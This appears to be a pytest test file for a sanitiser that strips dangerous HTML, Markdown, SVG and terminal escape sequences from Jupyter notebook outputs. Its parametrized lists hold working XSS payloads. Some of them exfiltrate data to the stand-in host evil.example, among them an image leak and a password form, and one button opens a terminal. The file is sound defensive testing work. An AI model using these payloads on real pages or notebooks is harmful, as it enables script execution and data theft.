"""What code in a box may show in a notebook: the page that shows it can start programs on this machine.

Jupyter's page runs what an output brings along, and whoever runs there has Jupyter's API: files, terminals, kernels.
"""

from __future__ import annotations

import base64
import re
import time
from typing import Any

import pytest

from holdfast.interpreter.notebook_forms import safe_forms, terminal_text

SVG = "<svg xmlns='http://www.w3.org/2000/svg'><script>attack()</script></svg>"


@pytest.mark.parametrize(
    "hostile",
    [
        "<script>attack()</script>",
        "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
        "<img src=x onerror=attack()>",
        "<img src='https://evil.example/?leaked'>",
        "<a href='javascript:attack()'>x</a>",
        "<a href='java\tscript:attack()'>x</a>",
        "<a href=' &#106;avascript:attack()'>x</a>",
        "<a href='data:text/html,<script>attack()</script>'>x</a>",
        "<iframe srcdoc='<script>attack()</script>'></iframe>",
        "<object data='https://evil.example/'></object><embed src='https://evil.example/'>",
        "<link rel=stylesheet href='https://evil.example/'><base href='https://evil.example/'>",
        "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
        "<form action='https://evil.example/'><input name=password><button>go</button></form>",
        "<p style='background:url(https://evil.example/)'>x</p>",
        "<p style='position:fixed;top:0;width:100%;color:red'>x</p>",
        "<style>@import 'https://evil.example/';</style>",
        "<svg onload=attack()><animate onbegin=attack()></svg>",
        "<math><mtext><table><mglyph><style><img src=x onerror=attack()></style></mglyph></table></mtext></math>",
        "<noscript><p title='</noscript><img src=x onerror=attack()>'></noscript>",
        "<button data-commandlinker-command='terminal:create-new'>x</button>",
        "<p title='\"><script>attack()</script>'>x</p>",
        "<!--><img src=x onerror=attack()>-->",
        "<!DOCTYPE x [<!ENTITY y 'z'>]><?php attack() ?>",
        "<textarea><img title='</textarea><img src=x onerror=attack()>'></textarea>",
        "<table background='https://evil.example/'><tr><td>x</td></tr></table>",
        "<video poster='https://evil.example/'><source src='https://evil.example/'></video>",
    ],
)
def test_html_keeps_nothing_that_acts_or_asks_the_network(hostile: str) -> None:
    shown = safe_forms({"text/html": hostile, "text/plain": "plain"}).get("text/html", "")
    tags = re.findall(r"<[^>]*>", shown)
    forbidden = (
        r"script|on\w+=|style=.*(url|position)|evil|iframe|object|embed|link|base|meta|form|svg|math|data-|input|button"
    )
    assert not [tag for tag in tags if re.search(forbidden, re.sub(r'title="[^"]*"', "", tag), re.IGNORECASE)], shown
    assert "attack" not in re.sub(r"&lt;.*?&gt;|title=\"[^\"]*\"", "", shown), shown


def test_what_a_table_looks_like_stays() -> None:
    table = (
        "<div>\n<style scoped>\n.dataframe tbody tr th { vertical-align: top; }\n</style>\n"
        '<table border="1" class="dataframe">\n'
        '<thead><tr style="text-align: right;"><th></th><th>a &lt; b</th></tr></thead>'
        "<tbody><tr><th>0</th><td>1</td></tr></tbody></table></div>"
    )
    assert safe_forms({"text/html": table})["text/html"] == (
        '<div>\n\n<table border="1" class="dataframe">\n'
        '<thead><tr style="text-align: right"><th></th><th>a &lt; b</th></tr></thead>'
        "<tbody><tr><th>0</th><td>1</td></tr></tbody></table></div>"
    )
    link = '<a href="https://example.com/?a=1&amp;b=2">x</a>'
    assert 'href="https://example.com/?a=1&amp;b=2"' in safe_forms({"text/html": link})["text/html"]
    picture = '<img src="data:image/png;base64,iVBORw0K" alt="x">'
    assert safe_forms({"text/html": picture})["text/html"] == picture
    assert safe_forms({"text/html": "<b>bold</b> <p>"})["text/html"] == "<b>bold</b> <p></p>", (
        "all that is open is closed"
    )
    assert safe_forms({"text/html": "</div></div><i>x"})["text/html"] == "<i>x</i>", "nothing of the page is closed"


@pytest.mark.parametrize(
    "hostile",
    [
        "<script>attack()</script>",
        "<img src=x onerror=attack()>",
        "[x](javascript:attack())",
        "[x](javascript\\:attack())",
        "[x](JavaScript&#58;attack())",
        "[x](< javascript:attack()>)",
        "[x]\n\n[x]: javascript:attack()",
        "![x](https://evil.example/?leaked)",
        "!![x][y]\n\n[y]: https://evil.example/?leaked",
    ],
)
def test_markdown_keeps_no_markup_no_script_and_no_picture_from_elsewhere(hostile: str) -> None:
    shown = safe_forms({"text/markdown": hostile})["text/markdown"]
    assert "<" not in shown
    assert "![" not in shown
    assert not re.search(r"javascript\\?:", shown, re.IGNORECASE)
    assert not re.search(r"&(?!lt;|amp;)", shown)
    assert safe_forms({"text/markdown": "*a* `b` [c](https://example.com)"})["text/markdown"] == (
        "*a* `b` [c](https://example.com)"
    )


def test_drawings_are_pictures_and_what_a_page_would_run_is_not_sent() -> None:
    encoded = base64.b64encode(SVG.encode()).decode()
    assert safe_forms({"image/svg+xml": SVG, "text/plain": "x"}) == {
        "text/plain": "x",
        "text/html": f'<img src="data:image/svg+xml;base64,{encoded}">',
    }
    for media in ("application/javascript", "application/vnd.jupyter.widget-view+json", "text/vnd.x", "", "TEXT/HTML"):
        shown = safe_forms({media: "attack()"})
        assert list(shown) == ["text/plain"]
        assert "attack" not in shown["text/plain"]
    assert safe_forms({"image/png": '"><script>', "text/plain": "x"}) == {"text/plain": "x"}
    assert safe_forms({"image/png": "iVBORw0K\n"}) == {"image/png": "iVBORw0K\n"}
    strange: list[Any] = [None, 1, [], {"text/html": 1}, {1: "x"}]
    for each in strange:
        assert set(safe_forms(each)) == {"text/plain"}


def test_deep_and_long_html_is_bounded() -> None:
    deep = safe_forms({"text/html": "<div>" * 100_000 + "x", "text/plain": "plain"})
    assert deep.get("text/html", "").count("<div>") <= 1_000
    assert deep["text/plain"] == "plain"
    assert safe_forms({"text/html": f"&#{'9' * 5000};"}), "no number is too long"


@pytest.mark.parametrize(
    "piece", ["<", "</", "<a ", "<!--", "&#", "<script>", "<a href='", "<title>", "!", "javascript"]
)
def test_no_output_takes_time_that_grows_with_its_square(piece: str) -> None:
    """A limit of nearly nothing for what is linear, and of minutes for what is not."""
    text = piece * (200_000 // len(piece))
    began = time.process_time()
    safe_forms({"text/html": text, "text/markdown": text, "text/plain": text})
    assert time.process_time() - began < 20


def test_output_drives_no_terminal_but_has_its_colours() -> None:
    assert (
        terminal_text("\x1b[1;31mred\x1b[0m\r 50%\b\t\n\x1b[K\x1b[A") == "\x1b[1;31mred\x1b[0m\r 50%\b\t\n\x1b[K\x1b[A"
    )
    shown = terminal_text("\x1b]0;title\x07\x1b]52;c;x\x1b\\\x1bP+q\x9b31m\x1b[6n\x00\x7f")
    assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]", shown), ascii(shown)
